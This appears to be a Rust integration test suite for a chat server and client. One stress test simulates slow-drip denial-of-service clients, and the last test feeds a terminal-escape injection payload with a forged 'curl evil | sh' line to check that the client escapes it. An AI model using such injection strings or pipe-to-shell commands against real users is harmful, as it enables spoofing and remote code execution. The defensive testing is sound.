//! `sockarc chat-server` driven with raw bytes from socket-behaviour.md 6.1 (not
//! with this project's encoder): ANSI and Unicode clients join, talk, see the
//! history replayed, leave; the server shuts down as CHATSRVR does; 200 clients
//! chat at once and all see every line once, in one order.
// Test vectors build lengths and counts that are small by construction.
#![allow(clippy::cast_possible_truncation)]

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use crate::common::{listening_port, SOCKARC};

/// A running chat server, killed when dropped.
struct Server {
    child: Child,
    port: u16,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn server(args: &[&str]) -> Server {
    let mut child = Command::new(SOCKARC)
        .args(["chat-server", "--host", "127.0.0.1", "--port", "0"])
        .args(args)
        .stderr(Stdio::piped())
        .spawn()
        .expect("sockarc runs");
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let port = listening_port(&mut stderr);
    // The server's log goes to this test's output, where a failure shows it.
    std::thread::spawn(move || {
        for line in stderr.lines().map_while(Result::ok) {
            eprintln!("[server] {line}");
        }
    });
    Server { child, port }
}

fn connect(server: &Server) -> TcpStream {
    let stream = TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    stream
}

/// A client→server message from an ANSI build: `00 00 | len | text | 00 00`.
fn ansi_message(close: u8, text: &str) -> Vec<u8> {
    let mut bytes = vec![close, 0, text.len() as u8];
    bytes.extend_from_slice(text.as_bytes());
    bytes.extend_from_slice(&[0, 0]);
    bytes
}

/// The same from a Unicode build: `00 00 | FF FE FF len | UTF-16LE | 00 00`.
fn unicode_message(close: u8, text: &str) -> Vec<u8> {
    let units: Vec<u16> = text.encode_utf16().collect();
    let mut bytes = vec![close, 0, 0xFF, 0xFE, 0xFF, units.len() as u8];
    bytes.extend(units.iter().flat_map(|u| u.to_le_bytes()));
    bytes.extend_from_slice(&[0, 0]);
    bytes
}

/// A server update from an ANSI build: close flag, empty text, count, lines.
fn ansi_update(close: u8, lines: &[&str]) -> Vec<u8> {
    let mut bytes = vec![close, 0, 0, lines.len() as u8, 0];
    for line in lines {
        bytes.push(line.len() as u8);
        bytes.extend_from_slice(line.as_bytes());
    }
    bytes
}

/// The same from a Unicode build.
fn unicode_update(close: u8, lines: &[&str]) -> Vec<u8> {
    let mut bytes = vec![close, 0, 0xFF, 0xFE, 0xFF, 0, lines.len() as u8, 0];
    for line in lines {
        let units: Vec<u16> = line.encode_utf16().collect();
        bytes.extend_from_slice(&[0xFF, 0xFE, 0xFF, units.len() as u8]);
        bytes.extend(units.iter().flat_map(|u| u.to_le_bytes()));
    }
    bytes
}

fn expect_bytes(stream: &mut TcpStream, expected: &[u8]) {
    let mut got = vec![0u8; expected.len()];
    stream
        .read_exact(&mut got)
        .unwrap_or_else(|e| panic!("waiting for {expected:02X?}: {e}"));
    assert_eq!(got, expected);
}

#[test]
fn the_spec_examples_are_what_this_test_builds() {
    // socket-behaviour.md 6.1, worked examples.
    assert_eq!(ansi_message(0, "bob: hi"), b"\x00\x00\x07bob: hi\x00\x00");
    assert_eq!(
        unicode_message(0, "bob: hi"),
        b"\x00\x00\xFF\xFE\xFF\x07b\x00o\x00b\x00:\x00 \x00h\x00i\x00\x00\x00"
    );
    assert_eq!(
        ansi_update(0, &["a: x", "b: y"]),
        b"\x00\x00\x00\x02\x00\x04a: x\x04b: y"
    );
}

#[test]
fn ansi_and_unicode_clients_join_talk_and_see_the_history() {
    let server = server(&[]);
    let mut bob = connect(&server);
    bob.write_all(&ansi_message(0, "bob: has just joined the discussion"))
        .unwrap();
    expect_bytes(
        &mut bob,
        &ansi_update(0, &["bob: has just joined the discussion"]),
    );
    bob.write_all(&ansi_message(0, "bob: hi")).unwrap();
    expect_bytes(&mut bob, &ansi_update(0, &["bob: hi"]));

    // A late Unicode joiner gets the whole history; the ANSI server answers in ANSI.
    let mut 张 = connect(&server);
    张.write_all(&unicode_message(0, "张三: has just joined the discussion"))
        .unwrap();
    let mut expected = ansi_update(0, &["bob: has just joined the discussion", "bob: hi"]);
    let joined = "张三: has just joined the discussion";
    // "张三" is not in Windows-1252: MFC's conversion makes it "??".
    let joined_1252 = joined.replace("张三", "??");
    expected[3] = 3;
    expected.push(joined_1252.len() as u8);
    expected.extend_from_slice(joined_1252.as_bytes());
    expect_bytes(&mut 张, &expected);
    expect_bytes(&mut bob, &ansi_update(0, &[&joined_1252]));

    // Leaving: the close message is added to the history, that client is closed.
    bob.write_all(&ansi_message(1, "bob: has just left the discussion"))
        .unwrap();
    expect_bytes(
        &mut 张,
        &ansi_update(0, &["bob: has just left the discussion"]),
    );
    let mut rest = Vec::new();
    bob.read_to_end(&mut rest).unwrap();
    assert!(
        rest.is_empty(),
        "nothing after the close message, then end of stream"
    );
}

#[test]
fn a_unicode_server_sends_unicode_and_takes_messages_split_anywhere() {
    let server = server(&["--unicode"]);
    let mut ann = connect(&server);
    ann.set_nodelay(true).unwrap();
    let join = ansi_message(0, "ann: has just joined the discussion");
    let (first, second) = join.split_at(5);
    ann.write_all(first).unwrap();
    ann.flush().unwrap();
    std::thread::yield_now();
    ann.write_all(second).unwrap();
    expect_bytes(
        &mut ann,
        &unicode_update(0, &["ann: has just joined the discussion"]),
    );
    // Two messages in one segment: both land in the history, in order.
    let mut both = ansi_message(0, "ann: one");
    both.extend(ansi_message(0, "ann: two"));
    ann.write_all(&both).unwrap();
    expect_bytes(&mut ann, &unicode_update(0, &["ann: one", "ann: two"]));
}

#[test]
fn a_client_sending_garbage_is_dropped_and_the_others_keep_chatting() {
    let server = server(&[]);
    let mut good = connect(&server);
    good.write_all(&ansi_message(0, "good: has just joined the discussion"))
        .unwrap();
    expect_bytes(
        &mut good,
        &ansi_update(0, &["good: has just joined the discussion"]),
    );
    let mut bad = connect(&server);
    // A CString length of 2^31 - 1: over the archive's limit.
    bad.write_all(&[0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x7F])
        .unwrap();
    let mut rest = Vec::new();
    let _ = bad.read_to_end(&mut rest);
    assert!(
        rest.is_empty(),
        "the bad client is closed without an answer"
    );
    // One that disconnects without its close message is dropped too.
    drop(connect(&server));
    good.write_all(&ansi_message(0, "good: still here"))
        .unwrap();
    expect_bytes(&mut good, &ansi_update(0, &["good: still here"]));
}

// Unix only: it sends SIGTERM (on Windows the server stops on Ctrl-C and Ctrl-Break).
#[cfg(unix)]
#[test]
fn the_server_shuts_down_as_chatsrvr_does() {
    let mut server = server(&[]);
    let mut ann = connect(&server);
    ann.write_all(&ansi_message(0, "ann: has just joined the discussion"))
        .unwrap();
    expect_bytes(
        &mut ann,
        &ansi_update(0, &["ann: has just joined the discussion"]),
    );
    // SAFETY: kill(2) on our own child's pid.
    unsafe { libc::kill(server.child.id() as libc::pid_t, libc::SIGTERM) };
    expect_bytes(
        &mut ann,
        &ansi_update(1, &["The discussion server has shutdown"]),
    );
    let mut rest = Vec::new();
    ann.read_to_end(&mut rest).unwrap();
    assert!(rest.is_empty());
    drop(ann);
    let status = server.child.wait().unwrap();
    assert!(status.success(), "{status}");
}

/// Reads server updates until `total` history lines have arrived.
fn collect_lines(stream: TcpStream, total: usize) -> Vec<String> {
    use sockarc::archive::{Archive, MfcString};
    let mut ar = Archive::load(stream);
    let mut lines = Vec::with_capacity(total);
    while lines.len() < total {
        let close: u16 = ar.read().unwrap();
        let _text: MfcString = ar.read().unwrap();
        let history: Vec<MfcString> = ar.read().unwrap();
        assert_eq!(close, 0);
        lines.extend(history.iter().map(|l| l.to_string_lossy().into_owned()));
    }
    lines
}

#[test]
fn two_hundred_clients_see_every_line_once_in_one_order() {
    const CLIENTS: usize = 200;
    const LINES: usize = 50;
    let server = server(&[]);
    let total = CLIENTS * (LINES + 1);
    let barrier = std::sync::Arc::new(std::sync::Barrier::new(CLIENTS));
    let clients: Vec<_> = (0..CLIENTS)
        .map(|c| {
            let mut stream = connect(&server);
            let barrier = std::sync::Arc::clone(&barrier);
            std::thread::spawn(move || {
                let reader = stream.try_clone().unwrap();
                let collector = std::thread::spawn(move || collect_lines(reader, total));
                barrier.wait();
                stream
                    .write_all(&ansi_message(
                        0,
                        &format!("c{c}: has just joined the discussion"),
                    ))
                    .unwrap();
                for n in 0..LINES {
                    stream
                        .write_all(&ansi_message(0, &format!("c{c}: line {n}")))
                        .unwrap();
                }
                let lines = collector.join().unwrap();
                drop(stream);
                lines
            })
        })
        .collect();
    let seen: Vec<Vec<String>> = clients.into_iter().map(|c| c.join().unwrap()).collect();
    let first = &seen[0];
    assert_eq!(first.len(), total);
    let mut unique = first.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), total, "every line exactly once");
    for c in 0..CLIENTS {
        let mine: Vec<&String> = first
            .iter()
            .filter(|l| l.starts_with(&format!("c{c}: ")))
            .collect();
        assert_eq!(mine.len(), LINES + 1);
        assert!(
            mine[0].ends_with("has just joined the discussion"),
            "client {c} joins first"
        );
        for (n, line) in mine[1..].iter().enumerate() {
            assert_eq!(
                **line,
                format!("c{c}: line {n}"),
                "client {c}'s lines in order"
            );
        }
    }
    for (c, lines) in seen.iter().enumerate() {
        assert!(lines == first, "client {c} saw another order");
    }
}

/// A raw listening socket on 127.0.0.1 and `sockarc chat` connected to it with
/// `args`; returns the client process and the server's side of the connection.
fn chat_client(args: &[&str]) -> (Child, TcpStream) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let child = Command::new(SOCKARC)
        .args(["chat", "--server", "127.0.0.1", "--port", &port])
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("sockarc runs");
    let (conn, _) = listener.accept().unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    (child, conn)
}

#[test]
fn the_client_joins_talks_and_leaves_in_unicode() {
    let (mut child, mut conn) = chat_client(&["--handle", "zoe", "--unicode"]);
    expect_bytes(
        &mut conn,
        &unicode_message(0, "zoe: has just joined the discussion"),
    );
    // An ANSI server's update: the client prints its lines.
    conn.write_all(&ansi_update(
        0,
        &["zoe: has just joined the discussion", "a: x"],
    ))
    .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    writeln!(stdin, "hello").unwrap();
    expect_bytes(&mut conn, &unicode_message(0, "zoe: hello"));
    drop(stdin);
    expect_bytes(
        &mut conn,
        &unicode_message(1, "zoe: has just left the discussion"),
    );
    // The client shut down its sending side; the server closes, the client exits.
    let mut rest = Vec::new();
    conn.read_to_end(&mut rest).unwrap();
    assert!(rest.is_empty());
    drop(conn);
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", out.status);
    assert_eq!(
        String::from_utf8(out.stdout).unwrap(),
        "zoe: has just joined the discussion\na: x\n"
    );
}

#[test]
fn the_client_exits_when_the_server_shuts_down() {
    let (mut child, mut conn) = chat_client(&["--handle", "amy"]);
    expect_bytes(
        &mut conn,
        &ansi_message(0, "amy: has just joined the discussion"),
    );
    // Standard input stays open: the close flag alone ends the client.
    let _stdin = child.stdin.take().unwrap();
    conn.write_all(&unicode_update(1, &["The discussion server has shutdown"]))
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", out.status);
    assert_eq!(
        String::from_utf8(out.stdout).unwrap(),
        "The discussion server has shutdown\n"
    );
}

#[test]
fn the_server_outlives_its_closed_log() {
    let mut child = Command::new(SOCKARC)
        .args(["chat-server", "--host", "127.0.0.1", "--port", "0"])
        .stderr(Stdio::piped())
        .spawn()
        .expect("sockarc runs");
    let port = listening_port(&mut BufReader::new(child.stderr.take().unwrap()));
    // The reading end of its stderr is gone now: every log line fails to write.
    let server = Server { child, port };
    for name in ["one", "two"] {
        let mut client = connect(&server);
        let join = format!("{name}: has just joined the discussion");
        client.write_all(&ansi_message(0, &join)).unwrap();
        let mut update = vec![0u8; 5];
        client.read_exact(&mut update).unwrap();
        assert_eq!(&update[..2], &[0, 0], "{name} gets an update");
    }
}

/// `clients` clients each send one line and leave, every other one by closing
/// and the rest by resetting (`SO_LINGER` 0), from 10 threads at once; an
/// observer must see every line. A reset must not cost the line sent before it.
fn leaving_clients_keep_their_last_words(clients: usize) {
    let server = server(&[]);
    let mut observer = connect(&server);
    observer
        .write_all(&ansi_message(0, "obs: has just joined the discussion"))
        .unwrap();
    let collector = std::thread::spawn(move || collect_lines(observer, clients + 1));
    let threads: Vec<_> = (0..10)
        .map(|t| {
            let port = server.port;
            std::thread::spawn(move || {
                for c in (t..clients).step_by(10) {
                    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
                    stream
                        .write_all(&ansi_message(0, &format!("c{c}: bye")))
                        .unwrap();
                    if c % 2 == 1 {
                        socket2::SockRef::from(&stream)
                            .set_linger(Some(Duration::ZERO))
                            .unwrap();
                    }
                    drop(stream);
                }
            })
        })
        .collect();
    for thread in threads {
        thread.join().unwrap();
    }
    let lines = collector.join().unwrap();
    let mut byes: Vec<&String> = lines.iter().filter(|l| l.ends_with(": bye")).collect();
    byes.sort();
    byes.dedup();
    assert_eq!(byes.len(), clients, "lines kept of {clients}");
}

#[test]
#[cfg_attr(
    windows,
    ignore = "Wine 8 fails accept (WSAENOTCONN) for a connection reset while queued, and what it sent is lost"
)]
fn fifty_clients_that_close_or_reset_keep_their_last_words() {
    leaving_clients_keep_their_last_words(50);
}

#[test]
#[ignore = "load: 500 clients; cargo test --release --test it -- --ignored chat::"]
fn five_hundred_clients_that_close_or_reset_keep_their_last_words() {
    leaving_clients_keep_their_last_words(500);
}

/// The server's descriptors, CPU ticks (user + system) and process id.
#[cfg(target_os = "linux")]
fn descriptors(server: &Server) -> usize {
    std::fs::read_dir(format!("/proc/{}/fd", server.child.id()))
        .map(|d| d.count())
        .unwrap_or(0)
}

#[cfg(target_os = "linux")]
fn cpu_ticks(server: &Server) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{}/stat", server.child.id())).unwrap();
    // Fields after the command's closing parenthesis; utime and stime are the
    // 12th and 13th of them.
    let after = &stat[stat.rfind(')').unwrap() + 2..];
    let fields: Vec<&str> = after.split_whitespace().collect();
    fields[11].parse::<u64>().unwrap() + fields[12].parse::<u64>().unwrap()
}

/// Joins as `name` and waits for the server's update with the join line.
#[cfg(target_os = "linux")]
fn join(server: &Server, name: &str) -> TcpStream {
    let mut stream = connect(server);
    let line = format!("{name}: has just joined the discussion");
    stream.write_all(&ansi_message(0, &line)).unwrap();
    let mut ar = sockarc::archive::Archive::load(stream.try_clone().unwrap());
    loop {
        let _close: u16 = ar.read().unwrap();
        let _text: sockarc::archive::MfcString = ar.read().unwrap();
        let history: Vec<sockarc::archive::MfcString> = ar.read().unwrap();
        if history.iter().any(|l| l.to_string_lossy() == line) {
            return stream;
        }
    }
}

// Linux only: it counts the server's descriptors in /proc.
#[cfg(target_os = "linux")]
#[test]
#[ignore = "load: 2,000 connections; cargo test --release --test it -- --ignored chat::"]
fn descriptors_stay_flat_over_2000_connect_and_reset_cycles() {
    // The cap is not what this test is about: connections reset faster than
    // the server drops them may briefly number more than the default 1,024.
    let server = server(&["--max-clients", "4096"]);
    drop(join(&server, "first"));
    let before = descriptors(&server);
    for c in 0..2000 {
        let stream = TcpStream::connect(("127.0.0.1", server.port)).unwrap();
        if c % 2 == 0 {
            (&stream).write_all(&ansi_message(0, "x: y")).unwrap();
        }
        socket2::SockRef::from(&stream)
            .set_linger(Some(Duration::ZERO))
            .unwrap();
        drop(stream);
    }
    // A client served after the churn shows the server is still serving; the
    // resets it has not handled yet are dropped within a few seconds.
    let last = join(&server, "last");
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let mut after = descriptors(&server);
    while after > before + 1 {
        assert!(
            std::time::Instant::now() < deadline,
            "descriptors {before} -> {after} after 10 s"
        );
        std::thread::park_timeout(Duration::from_millis(20));
        after = descriptors(&server);
    }
    drop(last);
}

/// Out of descriptors (`RLIMIT_NOFILE` 64, 120 clients), the server neither
/// spins nor floods its log, and serves again once descriptors free up.
// Linux only: it sets RLIMIT_NOFILE and reads /proc.
#[cfg(target_os = "linux")]
#[test]
#[ignore = "load: 120 connections for a second; cargo test --release --test it -- --ignored chat::"]
fn out_of_descriptors_the_server_waits_quietly_and_recovers() {
    use std::os::unix::process::CommandExt;
    let mut command = Command::new(SOCKARC);
    command
        .args(["chat-server", "--host", "127.0.0.1", "--port", "0"])
        .stderr(Stdio::piped());
    // SAFETY: setrlimit is async-signal-safe; it only lowers this child's limit.
    unsafe {
        command.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 64,
                rlim_max: 64,
            };
            if libc::setrlimit(libc::RLIMIT_NOFILE, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = command.spawn().unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let port = listening_port(&mut stderr);
    let log = std::thread::spawn(move || stderr.lines().map_while(Result::ok).collect::<Vec<_>>());
    let server = Server { child, port };
    let mut held: Vec<TcpStream> = (0..120).map(|_| connect(&server)).collect();
    // Wait until the server has hit the limit: its descriptors stop growing
    // at about 64.
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while descriptors(&server) < 60 {
        assert!(
            std::time::Instant::now() < deadline,
            "never reached the limit"
        );
        std::thread::yield_now();
    }
    let ticks_before = cpu_ticks(&server);
    let window = std::time::Instant::now();
    while window.elapsed() < Duration::from_secs(1) {
        std::thread::park_timeout(Duration::from_millis(100));
    }
    let ticks = cpu_ticks(&server) - ticks_before;
    // SAFETY: sysconf only reads a constant.
    let per_second = unsafe { libc::sysconf(libc::_SC_CLK_TCK) } as u64;
    assert!(
        ticks * 10 < per_second,
        "{ticks} ticks of CPU in one second (at {per_second} a second): over 10%"
    );
    // Descriptors free up: the waiting connections are served, and a new client
    // can chat.
    held.truncate(20);
    drop(join(&server, "after"));
    drop(held);
    drop(server);
    let log = log.join().unwrap();
    // One line each time the server runs out again after accepting again.
    // How often that happens while the 100 closed clients drain depends on
    // the order the kernel reports their closes against the listener (seen:
    // 1 to 3); a line per failed accept would be ten or more (one per 100 ms
    // pause in the second the test holds the limit).
    let failures = log.iter().filter(|l| l.contains("accept failed")).count();
    assert!(failures <= 5, "{failures} accept failures logged: {log:?}");
}

/// A client→server message from an ANSI build with a text of any length: the
/// CString length is a byte, `FF` + a WORD, or `FF FF FF` + a DWORD
/// (archive-format.md, CString).
#[cfg(target_os = "linux")]
fn ansi_message_long(text: &str) -> Vec<u8> {
    let mut bytes = vec![0, 0];
    let len = text.len();
    if len < 0xFF {
        bytes.push(len as u8);
    } else if len < 0xFFFE {
        bytes.push(0xFF);
        bytes.extend_from_slice(&(len as u16).to_le_bytes());
    } else {
        bytes.extend_from_slice(&[0xFF, 0xFF, 0xFF]);
        bytes.extend_from_slice(&(len as u32).to_le_bytes());
    }
    bytes.extend_from_slice(text.as_bytes());
    bytes.extend_from_slice(&[0, 0]);
    bytes
}

/// Joins as `name` and reads updates until the history holds every line of
/// `wanted`; returns the connection and the lines read.
fn join_and_wait_for(server: &Server, name: &str, wanted: &[String]) -> (TcpStream, Vec<String>) {
    let mut stream = connect(server);
    let line = format!("{name}: has just joined the discussion");
    stream.write_all(&ansi_message(0, &line)).unwrap();
    let mut ar = sockarc::archive::Archive::load(stream.try_clone().unwrap());
    let mut lines = Vec::new();
    while !wanted.iter().all(|w| lines.contains(w)) || !lines.contains(&line) {
        let _close: u16 = ar.read().unwrap();
        let _text: sockarc::archive::MfcString = ar.read().unwrap();
        let history: Vec<sockarc::archive::MfcString> = ar.read().unwrap();
        lines.extend(history.iter().map(|l| l.to_string_lossy().into_owned()));
    }
    (stream, lines)
}

/// Resident memory of the server, in KiB.
#[cfg(target_os = "linux")]
fn rss_kib(server: &Server) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", server.child.id())).unwrap();
    status
        .lines()
        .find(|l| l.starts_with("VmRSS:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|kib| kib.parse().ok())
        .unwrap()
}

#[test]
fn a_new_client_gets_the_history_kept_within_its_bound() {
    let server = server(&["--history-lines", "2"]);
    let (mut bob, _) = join_and_wait_for(&server, "bob", &[]);
    for text in ["bob: a", "bob: b", "bob: c"] {
        bob.write_all(&ansi_message(0, text)).unwrap();
    }
    // Bob is sent his own lines: the server has them all.
    let mut ar = sockarc::archive::Archive::load(bob);
    loop {
        let _close: u16 = ar.read().unwrap();
        let _text: sockarc::archive::MfcString = ar.read().unwrap();
        let history: Vec<sockarc::archive::MfcString> = ar.read().unwrap();
        if history.iter().any(|l| l.to_string_lossy() == "bob: c") {
            break;
        }
    }
    let (_ann, lines) = join_and_wait_for(&server, "ann", &["bob: c".to_owned()]);
    assert_eq!(lines, ["bob: c", "ann: has just joined the discussion"]);
}

/// Ten clients join a server holding 20 MB of history and never read: each
/// holds at most one 64 KiB chunk of it in the server, not the whole history
/// (before: about 20 MB each).
// Linux only: it reads the server's RSS from /proc.
#[cfg(target_os = "linux")]
#[test]
fn ten_joiners_that_never_read_cost_the_server_little_memory() {
    let server = server(&["--history-bytes", "33554432"]);
    let mut feeder = connect(&server);
    let big = "x".repeat(512 * 1024);
    let lines: Vec<String> = (0..40).map(|n| format!("feed: {n} {big}")).collect();
    for line in &lines {
        feeder.write_all(&ansi_message_long(line)).unwrap();
    }
    drop(join_and_wait_for(&server, "probe", &lines[39..]));
    let before = rss_kib(&server);
    let joiners: Vec<TcpStream> = (0..10)
        .map(|n| {
            let mut stream = connect(&server);
            let line = format!("idle{n}: has just joined the discussion");
            stream.write_all(&ansi_message(0, &line)).unwrap();
            stream
        })
        .collect();
    let joined: Vec<String> = (0..10)
        .map(|n| format!("idle{n}: has just joined the discussion"))
        .collect();
    drop(join_and_wait_for(&server, "last", &joined));
    let grown = rss_kib(&server).saturating_sub(before);
    eprintln!("server RSS {before} KiB, grew by {grown} KiB for 10 non-reading joiners");
    assert!(
        grown < 16 * 1024,
        "RSS grew by {grown} KiB for 10 non-reading joiners"
    );
    drop(joiners);
}

#[test]
fn partial_messages_and_silent_clients_are_dropped_after_their_timeouts() {
    for (flag, bytes) in [
        ("--partial-timeout", &[0u8, 0, 9, b'x'][..]),
        ("--idle-timeout", &[][..]),
    ] {
        let server = server(&[flag, "200ms"]);
        let mut client = connect(&server);
        client.write_all(bytes).unwrap();
        let started = std::time::Instant::now();
        let mut rest = Vec::new();
        let _ = client.read_to_end(&mut rest);
        let waited = started.elapsed();
        assert!(rest.is_empty(), "{flag}: nothing sent before the close");
        assert!(
            waited >= Duration::from_millis(150) && waited < Duration::from_secs(5),
            "{flag}: closed after {waited:?}"
        );
    }
}

#[test]
fn connections_beyond_the_cap_are_closed_and_the_others_served() {
    let server = server(&["--max-clients", "2"]);
    let (mut ann, _) = join_and_wait_for(&server, "ann", &[]);
    let (_bob, _) = join_and_wait_for(&server, "bob", &[]);
    let mut third = connect(&server);
    let mut rest = Vec::new();
    let _ = third.read_to_end(&mut rest);
    assert!(rest.is_empty(), "the third connection is closed unanswered");
    ann.write_all(&ansi_message(0, "ann: still here")).unwrap();
    let mut ar = sockarc::archive::Archive::load(ann);
    loop {
        let _close: u16 = ar.read().unwrap();
        let _text: sockarc::archive::MfcString = ar.read().unwrap();
        let history: Vec<sockarc::archive::MfcString> = ar.read().unwrap();
        if history
            .iter()
            .any(|l| l.to_string_lossy() == "ann: still here")
        {
            break;
        }
    }
}

/// Eight attackers each drip one byte every 5 ms into a 900 KB partial message
/// of many small values that never completes; an honest client's round trips (its line sent, then seen in
/// the update) stay quick. Before `read_message` waited for the bytes a
/// message provably needs, every byte re-parsed the partial message: a median
/// of 427 ms.
// Linux only: it reads the server's CPU time from /proc.
#[cfg(target_os = "linux")]
#[test]
#[ignore = "load: 2 s of slow-drip attack; cargo test --release --test it -- --ignored chat::"]
fn slow_drip_attackers_leave_honest_round_trips_quick() {
    let server = server(&[]);
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let attackers: Vec<_> = (0..8)
        .map(|_| {
            let mut stream = connect(&server);
            let stop = std::sync::Arc::clone(&stop);
            std::thread::spawn(move || {
                // close 0, an empty text, then a history list that claims
                // 1,000,000 strings (count FF FF + DWORD) and holds 450,000
                // one-character ones: 900 KB of a message that never ends.
                let mut header = vec![0, 0, 0, 0xFF, 0xFF];
                header.extend_from_slice(&1_000_000u32.to_le_bytes());
                for _ in 0..450_000 {
                    header.extend_from_slice(&[1, b'x']);
                }
                stream.write_all(&header).unwrap();
                let mut dripped = 0;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) && dripped < 2000 {
                    // The attack's pace, not a synchronisation.
                    std::thread::sleep(Duration::from_millis(5));
                    if stream.write_all(b"x").is_err() {
                        break;
                    }
                    dripped += 1;
                }
                stream
            })
        })
        .collect();
    let (honest, _) = join_and_wait_for(&server, "honest", &[]);
    let mut writer = honest.try_clone().unwrap();
    let mut ar = sockarc::archive::Archive::load(honest);
    let mut round_trips = Vec::new();
    let (ticks_before, window) = (cpu_ticks(&server), std::time::Instant::now());
    for n in 0..40 {
        let line = format!("honest: line {n}");
        let started = std::time::Instant::now();
        writer.write_all(&ansi_message(0, &line)).unwrap();
        loop {
            let _close: u16 = ar.read().unwrap();
            let _text: sockarc::archive::MfcString = ar.read().unwrap();
            let history: Vec<sockarc::archive::MfcString> = ar.read().unwrap();
            if history.iter().any(|l| l.to_string_lossy() == line) {
                break;
            }
        }
        round_trips.push(started.elapsed());
        // One line every 50 ms, as a person types, over the attack's 2 s.
        std::thread::sleep(Duration::from_millis(50));
    }
    let ticks = cpu_ticks(&server) - ticks_before;
    let elapsed = window.elapsed();
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    for attacker in attackers {
        drop(attacker.join().unwrap());
    }
    round_trips.sort();
    let median = round_trips[round_trips.len() / 2];
    // SAFETY: sysconf only reads a constant.
    let per_second = unsafe { libc::sysconf(libc::_SC_CLK_TCK) } as f64;
    let share = ticks as f64 / per_second / elapsed.as_secs_f64();
    eprintln!(
        "under attack: honest round trips median {median:?}, max {:?}; server CPU {:.1}% of a core",
        round_trips.last(),
        share * 100.0
    );
    assert!(
        median < Duration::from_millis(50),
        "median round trip {median:?}"
    );
    assert!(
        share < 0.10,
        "the server used {:.1}% of a core",
        share * 100.0
    );
}

/// Issue 10's terminal injection: a peer's line that would retitle the
/// terminal, clear it, recolour it and forge a line from alice is printed
/// escaped, one line, with no raw control byte.
#[test]
fn the_client_shows_a_peers_control_characters_escaped() {
    let (mut child, mut conn) = chat_client(&["--handle", "amy"]);
    expect_bytes(
        &mut conn,
        &ansi_message(0, "amy: has just joined the discussion"),
    );
    let _stdin = child.stdin.take().unwrap();
    let hostile =
        "mallory: hello\x1b]0;pwned\x07\x1b[2J\x1b[31m\nalice: please run curl evil | sh\r";
    conn.write_all(&ansi_update(0, &[hostile])).unwrap();
    conn.write_all(&ansi_update(1, &["bye"])).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", out.status);
    assert!(
        !out.stdout.iter().any(|&b| b < 0x20 && b != b'\n'),
        "a raw control byte reached the terminal: {:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(
        String::from_utf8(out.stdout).unwrap(),
        "mallory: hello\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{1b}[31m\\nalice: please run curl evil | sh\\r\nbye\n"
    );
}
